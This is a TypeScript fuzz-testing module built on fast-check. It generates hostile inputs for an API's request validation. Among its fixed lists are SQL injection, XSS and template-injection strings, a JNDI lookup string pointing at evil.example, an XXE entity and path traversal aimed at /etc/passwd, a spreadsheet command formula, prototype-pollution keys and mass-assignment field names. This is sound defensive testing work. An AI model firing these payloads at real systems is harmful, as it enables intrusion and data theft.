import fc from 'fast-check';
import { type DtoField } from './dto-fields.js';

/**
 * A JSON value kept as a tree and serialised by hand, so `__proto__` stays a real own key of the
 * text the service parses, and numbers such as `1e999` reach it as written.
 */
export type Json =
  | { kind: 'raw'; text: string }
  | { kind: 'string'; value: string }
  | { kind: 'array'; items: Json[] }
  | { kind: 'object'; entries: [string, Json][] };

export const raw = (text: string): Json => ({ kind: 'raw', text });
export const str = (value: string): Json => ({ kind: 'string', value });

export function jsonText(node: Json): string {
  switch (node.kind) {
    case 'raw':
      return node.text;
    case 'string':
      return JSON.stringify(node.value);
    case 'array':
      return `[${node.items.map(jsonText).join(',')}]`;
    case 'object':
      return `{${node.entries.map(([key, value]) => `${JSON.stringify(key)}:${jsonText(value)}`).join(',')}}`;
  }
}

// ---------------------------------------------------------------------------------------------
// Hostile text

/** Look-alikes of Latin letters and digits: Cyrillic, fullwidth, dotless/dotted i, ligatures. */
export const CONFUSABLES = [
  'аdmin', // Cyrillic а
  'аdmіn', // Cyrillic а and і
  'ѕhkola', // Cyrillic ѕ
  'ａｄｍｉｎ', // fullwidth
  'ADMİN', // dotted capital I: lower-cases to two code points
  'admın', // dotless ı
  '\u212aelvin', // Kelvin sign, NFKC «K»
  'ﬁle', // ligature
  'ɑdmin', // Latin alpha
  '𝐚𝐝𝐦𝐢𝐧', // mathematical bold (astral)
  'admin\u200b', // zero-width space
  'ad\u00admin', // soft hyphen
  'аdmin@example.ru',
  'admin@еxample.ru', // Cyrillic е in the domain
  'admin@пример.рф',
  'admin@xn--e1afmkfd.xn--p1ai',
  '+７９１２３４５６７８９', // fullwidth digits
  '+٧٩١٢٣٤٥٦٧٨٩', // Arabic-Indic digits
  'Zvezda#２０２６x',
];

/** Bidirectional overrides and isolates (Trojan-Source style spoofing). */
export const BIDI = [
  '\u202eevil\u202c',
  'abc\u202dxyz',
  '\u2066x\u2069',
  '\u200f\u200e',
  'doc\u202efdp.exe',
];

export const CONTROL = [
  '\u0000',
  'a\u0000b',
  '\u0000'.repeat(64),
  '\u0001\u0002\u0003',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r\n',
  'a\r\nSet-Cookie: il_session=x',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\ufffe',
  '\uffff',
];

export const LONE_SURROGATES = [
  '\ud800',
  '\udfff',
  'a\ud83d',
  '\ude00b',
  '\udbff\udbff',
  'x\udc00\ud800y',
];

export const INJECTION = [
  "' OR '1'='1",
  "'; drop table users; --",
  '" OR ""="',
  "\\'",
  '%',
  '_%',
  "1' and pg_sleep(10) --",
  '$$;$$',
  "E'\\\\x00'",
  '*',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '${7*7}',
  '#{7*7}',
  '%s%s%s%n',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+1+1',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'null',
  'undefined',
  'true',
  'NaN',
  '[object Object]',
  '0x41',
];

export const TRAVERSAL = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f',
  '..\\..\\windows\\win.ini',
  '/./',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example\\share',
  'https://evil.example',
  'file:///etc/passwd',
  '/%2e%2e/%2e%2e/',
  '.',
  '..',
  '/',
  '',
  ' ',
  '   ',
  '%00',
  '%zz',
];

/** Keys that reach prototypes or inherited members when code copies objects carelessly. */
export const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'isPrototypeOf',
];

/** Fields a client must never set on itself (mass assignment). */
export const MASS_ASSIGNMENT_KEYS = [
  'id',
  'userId',
  'isPlatformOperator',
  'status',
  'role',
  'admin',
  'emailVerified',
  'verified',
  'hash',
  'passwordHash',
  'sessionsValidAfter',
  'lkoNumber',
  'organizationId',
  'parentId',
  'path',
  'confirmedAt',
  'createdAt',
  'trusted',
  'login',
  'email',
  'roles',
  'user',
];

const FIXED = [
  ...CONFUSABLES,
  ...BIDI,
  ...CONTROL,
  ...LONE_SURROGATES,
  ...INJECTION,
  ...TRAVERSAL,
  ...PROTO_KEYS,
];

/** Single hostile characters to splice into otherwise good values. */
const SPLICE = [
  '\u0000',
  '\n',
  '\r',
  '\t',
  '\u001f',
  '\u007f',
  '\u200b',
  '\u202e',
  '\ufeff',
  '\ud800',
  '\udc00',
  'а',
  'е',
  'ｘ',
  "'",
  '"',
  '\\',
  '%',
  '<',
  '&',
  '@',
  '/',
  ' ',
  '😀',
];

const oddCharacter = fc.oneof(
  fc.constantFrom(...SPLICE),
  fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }),
);

/** Short hostile text: fixed attack strings, any code points, and mixes of odd characters. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FIXED) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: oddCharacter, maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...FIXED), fc.constantFrom(...FIXED))
      .map(([a, b]) => a + b),
  },
);

/**
 * Long text. `plain` is ASCII without spaces, so trimming cannot shorten it and a length bound
 * certainly refuses it; the others mix NUL, multi-byte and astral characters.
 */
export function longText(maxLength = 200_000): fc.Arbitrary<{ value: string; plain: boolean }> {
  return fc
    .record({
      length: fc.constantFrom(101, 255, 513, 1025, 4097, 20_000, 70_000, 100_000, 200_000),
      unit: fc.constantFrom('x', 'я', '😀', '\u0000', ' x', '\u202e', 'a\u0301'),
    })
    .map(({ length, unit }) => {
      const size = Math.min(length, maxLength);
      return {
        value: unit.repeat(Math.ceil(size / unit.length)).slice(0, size),
        plain: unit === 'x',
      };
    });
}

/** A good value with one hostile character spliced in. */
export function spliced(good: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.tuple(good, fc.nat(), oddCharacter).map(([value, at, odd]) => {
    const index = value.length === 0 ? 0 : at % (value.length + 1);
    return value.slice(0, index) + odd + value.slice(index);
  });
}

// ---------------------------------------------------------------------------------------------
// Wrong types

const numberToken = fc.oneof(
  fc.constantFrom(
    '0',
    '-0',
    '1',
    '-1',
    '1.5',
    '1e308',
    '-1e308',
    '1e999',
    '-1e999',
    '123456789012345678901234567890',
    '0.000000000000000000001',
    '9007199254740993',
    '1E+2',
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => JSON.stringify(n)),
  fc.integer().map(String),
);

export const scalar: fc.Arbitrary<Json> = fc.oneof(
  numberToken.map(raw),
  fc.constantFrom(raw('true'), raw('false'), raw('null')),
);

/** Keys for extra fields: prototype names, mass-assignment targets, hostile text. */
export const anyKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...PROTO_KEYS) },
  { weight: 2, arbitrary: fc.constantFrom(...MASS_ASSIGNMENT_KEYS) },
  { weight: 1, arbitrary: hostileText },
);

/** Nesting deeper than any request needs (arrays are 2 bytes a level, so 30 000 fit in 64 KiB). */
export const deeplyNested: fc.Arbitrary<Json> = fc
  .record({ depth: fc.constantFrom(64, 1_000, 10_000, 30_000), array: fc.boolean() })
  .map(({ depth, array }) =>
    raw(
      array
        ? '['.repeat(depth) + ']'.repeat(depth)
        : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth),
    ),
  );

export const anyJson: fc.Arbitrary<Json> = fc.letrec<{ value: Json; array: Json; object: Json }>(
  (tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      scalar,
      hostileText.map(str),
      tie('array'),
      tie('object'),
    ),
    array: fc
      .array(tie('value'), { maxLength: 4 })
      .map((items): Json => ({ kind: 'array', items })),
    object: fc
      .array(fc.tuple(anyKey, tie('value')), { maxLength: 4 })
      .map((entries): Json => ({ kind: 'object', entries })),
  }),
).value;

/** Something that is not what the field takes: numbers, booleans, null, lists, objects, depth. */
export const wrongType: fc.Arbitrary<Json> = fc.oneof(
  { weight: 3, arbitrary: scalar },
  {
    weight: 2,
    arbitrary: fc
      .array(hostileText.map(str), { maxLength: 3 })
      .map((items): Json => ({ kind: 'array', items })),
  },
  { weight: 2, arbitrary: anyJson },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...PROTO_KEYS).map((key): Json => ({
      kind: 'object',
      entries: [[key, { kind: 'object', entries: [['polluted', raw('true')]] }]],
    })),
  },
  { weight: 1, arbitrary: deeplyNested },
);

// ---------------------------------------------------------------------------------------------
// Percent-encoding that can also carry what encodeURIComponent refuses

const wtf8 = (unit: number): string =>
  [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)]
    .map((byte) => `%${byte.toString(16).toUpperCase()}`)
    .join('');

/** encodeURIComponent, except a lone surrogate becomes its (invalid UTF-8) WTF-8 bytes. */
export function percentEncode(value: string): string {
  let out = '';
  for (let i = 0; i < value.length; i += 1) {
    const unit = value.charCodeAt(i);
    if (unit >= 0xd800 && unit <= 0xdbff && i + 1 < value.length) {
      const next = value.charCodeAt(i + 1);
      if (next >= 0xdc00 && next <= 0xdfff) {
        out += encodeURIComponent(value.slice(i, i + 2));
        i += 1;
        continue;
      }
    }
    out += unit >= 0xd800 && unit <= 0xdfff ? wtf8(unit) : encodeURIComponent(value[i]);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Values that pass, so the fuzzer also gets past the first check

const STRONG_PASSWORD_PARTS = fc.tuple(
  fc.stringMatching(/^[A-Z]{1,3}$/),
  fc.stringMatching(/^[a-z]{4,8}$/),
  fc.stringMatching(/^[0-9]{1,3}$/),
  fc.constantFrom(...'!@#$%^&*()'),
);

export const strongPassword = STRONG_PASSWORD_PARTS.map(([a, b, c, d]) => `${a}${b}${d}${c}q`);

/** A value that satisfies the field's own decorators (or comes close), from its metadata. */
export function plausible(field: DtoField, known: string[] = []): fc.Arbitrary<Json> {
  const options: fc.Arbitrary<Json>[] = [];
  if (known.length > 0) options.push(fc.constantFrom(...known).map(str));
  if (field.type === 'boolean') options.push(fc.constantFrom(raw('true'), raw('false')));
  else if (field.type === 'array' && field.values)
    options.push(
      fc
        .subarray(field.values, { minLength: 1 })
        .map((items): Json => ({ kind: 'array', items: items.map(str) })),
    );
  else if (field.type === 'array')
    options.push(
      fc
        .array(fc.string({ maxLength: 10 }).map(str), { maxLength: 3 })
        .map((items): Json => ({ kind: 'array', items })),
    );
  else if (field.values) options.push(fc.constantFrom(...field.values).map(str));
  else if (field.formats.has('isEmail')) options.push(fc.emailAddress().map(str));
  else if (field.formats.has('isUuid')) options.push(fc.uuid({ version: 4 }).map(str));
  else if (field.formats.has('isUrl'))
    options.push(fc.webUrl({ validSchemes: ['https'] }).map(str));
  else if (field.formats.has('password') || /password/i.test(field.name))
    options.push(strongPassword.map(str));
  else if (field.pattern) options.push(fc.stringMatching(field.pattern).map(str));
  else
    options.push(
      fc
        .string({
          unit: 'grapheme',
          minLength: field.minLength ?? 0,
          maxLength: Math.min(field.maxLength ?? 40, 40),
        })
        .map(str),
    );
  return options.length === 1 ? options[0] : fc.oneof(...options);
}
